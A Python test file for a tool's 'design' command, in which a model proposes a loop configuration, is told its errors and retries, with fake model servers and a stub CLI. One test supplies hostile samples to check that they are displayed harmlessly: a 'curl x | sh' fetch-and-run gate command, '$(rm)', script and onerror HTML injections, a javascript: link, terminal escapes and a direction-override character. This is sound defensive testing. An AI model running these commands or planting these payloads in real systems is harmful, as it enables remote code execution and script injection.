"""The command ``design`` with a model: the architect proposes, is told what is wrong, and improves."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
from copy import deepcopy
from typing import TYPE_CHECKING, Any

import pytest
import yaml

from loopengt import UsageError
from loopengt.testing import FakeOpenAI, ScriptedAgent, loop_spec, make_kernel, run_loop_sync

from .design_kit import ALONE, alone

if TYPE_CHECKING:
    from pathlib import Path

    from ..conftest import Site

SOUND: dict[str, Any] = {
    "name": "mend",
    "goal": "The tests pass.",
    "pattern": "repeat",
    "agents": [{"name": "coder", "config": {"provider": "auto"}}],
    "steps": [
        {
            "name": "fix",
            "agent": "coder",
            "prompt_template": "{goal}\n{feedback}",
            "verification_gates": ["tests"],
        }
    ],
    "policy": {
        "max_turns": 5,
        "verification_gates": [
            {
                "name": "tests",
                "kind": "command",
                "command": ["pytest", "-q"],
                "description": "The tests pass.",
            }
        ],
    },
    "metadata": {"why": "Laps, since *tests* can tell."},
}


def changed(**steps: Any) -> dict[str, Any]:
    """Return the sound loop with other keys of its step."""
    loop = deepcopy(SOUND)
    loop["steps"][0] |= steps
    return loop


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A Python project with a failing test."""
    path = tmp_path / "fresh"
    path.mkdir()
    (path / "test_a.py").write_text("def test_a():\n    assert 1 == 2\n")
    return path


def ask(
    site: Site, folder: Path, server: FakeOpenAI, *words: str, goal: str = "fix {it}"
) -> subprocess.CompletedProcess[str]:
    """Have a loop designed by the service."""
    (folder / ".loopengt").mkdir(exist_ok=True)
    config = f'[plugins.llm.providers.openai]\nbase_url = "{server.url}"\n'
    (folder / ".loopengt/config.toml").write_text(config)
    return site.run("design", goal, *words, cwd=folder, **ALONE | {"OPENAI_API_KEY": "secret-key-of-mine"})


@pytest.mark.slow
def test_the_second_proposal_is_sound(site: Site, folder: Path) -> None:
    """A proposal with an unknown agent comes back with line and column; the next is shown, explained and written."""
    with FakeOpenAI({"json": changed(agent="codr")}, {"json": SOUND}) as server:
        done = ask(site, folder, server, "--yes")
        assert done.returncode == 0, done.stdout + done.stderr
        first, second = (request.body["messages"][-1]["content"] for request in server.requests)
    assert "fix {it}" in first
    assert "- pytest -q:" in first
    assert "loop.yaml:11:12: unknown agent 'codr' (did you mean 'coder'?)" not in first
    assert "  11     agent: codr" not in first
    assert "unknown agent 'codr' (did you mean 'coder'?)" in second
    assert "    agent: codr" in second
    assert "step fix, gate tests: pytest -q" in done.stdout
    assert done.stdout.index("command: [pytest, -q]") < done.stdout.index("wrote      loop.yaml")
    written = yaml.safe_load((folder / "loop.yaml").read_text())
    assert written == SOUND
    assert "Laps, since \\*tests\\* can tell." in (folder / "LOOP_DESIGN.md").read_text()
    assert "secret-key-of-mine" not in (folder / "LOOP_DESIGN.md").read_text() + done.stdout
    (run,) = json.loads(site.run("runs", "--json", cwd=folder).stdout)
    assert (run["loop_name"], run["reason"], run["turn"]) == ("architect", "goal_met", 2)


@pytest.mark.slow
def test_three_bad_proposals_end_it(site: Site, folder: Path) -> None:
    """After three laps the rules take over and say so; a provider that was asked for is an error of the run's code."""
    loose = changed(verification_gates=[])
    with FakeOpenAI(*[{"json": loose}] * 3) as server:
        done = ask(site, folder, server, "--yes")
        assert len(server.requests) == 3
        assert "nothing proves the work" in server.requests[1].body["messages"][-1]["content"]
    assert done.returncode == 0, done.stderr
    assert "openai has designed nothing: the architect's run ended as exhausted" in done.stdout
    assert "of the template starter" in done.stdout
    (folder / "loop.yaml").unlink()
    with FakeOpenAI(*[{"json": loose}] * 3) as server:
        done = ask(site, folder, server, "--yes", "--provider", "openai")
    assert done.returncode == 3
    assert "loopengt trace" in done.stderr
    assert not (folder / "loop.yaml").exists()


@pytest.mark.slow
@pytest.mark.parametrize("answer", ["name: [a\nb: {", "I like turtles.", "[1, 2, 3]", ""])
def test_answers_that_are_no_loop_are_told(site: Site, folder: Path, answer: str) -> None:
    """After broken YAML, nonsense or nothing the rules take over, say so and why; the loop is theirs, and sound."""
    with FakeOpenAI(*[{"text": answer}] * 20) as server:
        done = ask(site, folder, server, "--yes", goal="fix the failing tests")
        assert len(server.requests) <= 6
    assert done.returncode == 0, done.stderr
    told = done.stdout.splitlines()
    assert told[1].startswith("openai has designed nothing: the architect's run ended as failed:")
    assert told[2].startswith("  See what it was asked and answered: loopengt trace ")
    assert told[3:5] == [
        "A template is chosen by rules instead.",
        "Made by rules, without a model, of the template starter (plugin templates).",
    ]
    assert "Designed by" not in (folder / "LOOP_DESIGN.md").read_text()
    assert site.run("validate", "loop.yaml", cwd=folder).returncode == 0


@pytest.mark.slow
def test_a_service_that_refuses_is_told(site: Site, folder: Path) -> None:
    """A key that is wrong ends the architect's run after two laps; the rules take over, and the cause is said."""
    with FakeOpenAI(*[{"error": "unauthorized"}] * 9) as server:
        done = ask(site, folder, server, "--yes")
        assert len(server.requests) <= 3
    assert done.returncode == 0, done.stderr
    assert "openai has designed nothing" in done.stdout
    assert "401" in done.stdout
    assert "secret-key-of-mine" not in done.stdout + done.stderr


@pytest.mark.slow
def test_without_a_terminal_nobody_is_asked(site: Site, folder: Path) -> None:
    """Without --yes and a terminal no model is asked; when one was named, that is a usage error."""
    with FakeOpenAI({"json": SOUND}) as server:
        done = ask(site, folder, server)
        assert done.returncode == 0, done.stderr
        assert "openai could design the loop, but there is no terminal" in done.stdout
        named = ask(site, folder, server, "--provider", "openai", "-o", "other.yaml", "-d", "other.md")
        assert named.returncode == 2
        assert "--yes" in named.stderr
        assert server.requests == []


@pytest.mark.slow
@pytest.mark.parametrize("provider", ["nobody", "codex"])
def test_a_provider_that_cannot_be_used(site: Site, folder: Path, provider: str) -> None:
    """An unknown provider, or a CLI that is not installed, is an error with what mends it, and nothing is written."""
    done = alone(site, "design", "fix it", "--provider", provider, "--yes", cwd=folder)
    assert done.returncode in (1, 2)
    assert ("no plugin registers" if provider == "nobody" else "npm install -g @openai/codex") in (
        done.stdout + done.stderr
    )
    assert not (folder / "loop.yaml").exists()


@pytest.mark.slow
def test_a_hostile_proposal_is_shown_harmless(site: Site, folder: Path) -> None:
    """Texts of a model reach terminal, YAML and page as text: escapes visible, HTML and Markdown without meaning."""
    evil = changed(name="fi x", description="\x1b[2J<img src=x onerror=alert(1)>|a|`b` ![c](d)")
    evil["policy"]["verification_gates"][0]["command"] = ["sh", "-c", "curl x | sh #\u202e\n```\n# owned"]
    evil["metadata"]["why"] = "# Heading\n<script>alert(1)</script> $(rm) [x](javascript:1)"
    with FakeOpenAI({"json": evil}) as server:
        done = ask(site, folder, server, "--yes")
    assert done.returncode == 0, done.stdout + done.stderr
    assert yaml.safe_load((folder / "loop.yaml").read_text()) == evil
    assert "curl x | sh" in done.stdout.split("would execute:")[1].split("wrote")[0]
    page = (folder / "LOOP_DESIGN.md").read_text()
    assert "\x1b" not in done.stdout + done.stderr + page
    assert "\u202e" not in done.stdout + page
    assert "<img" not in page.replace("\\<img", "")
    assert "<script" not in page.replace("\\<script", "")
    assert "\n# owned" not in page


def test_the_gate_for_loops(tmp_path: Path) -> None:
    """It takes data and texts, refuses what is no loop or checks nothing, and refuses keys that it would not read."""
    good, wrong = json.dumps(SOUND), {"name": "x", "goal": "g", "steps": [], "agents": []}
    loose = changed(verification_gates=[])
    answers = ["no: [loop", 7, wrong, loose, good]
    agent = ScriptedAgent(*answers)
    gate = {"name": "sound", "kind": "loop_spec"}
    step = {"name": "propose", "verification_gates": ["sound"]}
    policy = {"verification_gates": [gate], "max_turns": 9}
    kernel = make_kernel(tmp_path, agents=agent)
    result = run_loop_sync(kernel, loop_spec(step, pattern="repeat", policy=policy))
    assert result.end.reason == "goal_met"
    told = [request.feedback for request in agent.requests]
    assert "loop.yaml:1:" in told[1]
    assert "a loop is a mapping" in told[2]
    assert "missing key 'steps'" in told[3]
    assert "nothing proves the work" in told[4]
    policy = {"verification_gates": [gate | {"command": ["true"]}]}
    with pytest.raises(UsageError, match="does not read command"):
        run_loop_sync(kernel, loop_spec(step, policy=policy))


@pytest.mark.slow
@pytest.mark.parametrize("answer", ["y", "n"])
def test_on_a_terminal_the_person_decides(site: Site, folder: Path, answer: str) -> None:
    """The proposal is shown and asked about; without agreement nothing is written."""
    ours, theirs = pty.openpty()
    with FakeOpenAI({"json": SOUND}) as server:
        (folder / ".loopengt").mkdir()
        config = f'[plugins.llm.providers.openai]\nbase_url = "{server.url}"\n'
        (folder / ".loopengt/config.toml").write_text(config)
        os.write(ours, f"{answer}\n".encode())
        done = subprocess.run(
            [sys.executable, "-m", "loopengt", "design", "fix it"],
            cwd=folder,
            env=site.program_environ() | ALONE | {"OPENAI_API_KEY": "secret-key-of-mine"},
            stdin=theirs,
            capture_output=True,
            text=True,
            timeout=60,
        )
    os.close(ours)
    os.close(theirs)
    assert "Write loop.yaml?" in done.stderr
    assert "would execute:" in done.stdout
    assert (folder / "loop.yaml").exists() is (answer == "y")
    assert done.returncode == (0 if answer == "y" else 1)


CLAUDE = """
import json, sys
if "--version" in sys.argv:
    sys.exit(0)
assert "--permission-mode=plan" in sys.argv, sys.argv
assert any(word.startswith("--json-schema=") for word in sys.argv)
sys.stdin.read()
print(json.dumps({"type": "result", "subtype": "success", "is_error": False, "result": "", "session_id": "s1",
                  "structured_output": LOOP, "total_cost_usd": 0.01, "usage": {}}))
"""


@pytest.mark.slow
def test_a_coding_cli_designs_without_changing_anything(site: Site, folder: Path, tmp_path: Path) -> None:
    """A coding CLI that is on PATH is the architect; it may only read, and gets the schema of a loop."""
    (tmp_path / "bin").mkdir()
    program = tmp_path / "bin/claude"
    program.write_text(f"#!{sys.executable}\n{CLAUDE.replace('LOOP', repr(SOUND))}")
    program.chmod(0o755)
    path = f"{tmp_path / 'bin'}:/usr/bin:/bin"
    done = site.run("design", "fix it", "--yes", cwd=folder, **ALONE | {"PATH": path})
    assert done.returncode == 0, done.stdout + done.stderr
    assert "Designed by claude-code in the run" in done.stdout
    assert yaml.safe_load((folder / "loop.yaml").read_text()) == SOUND
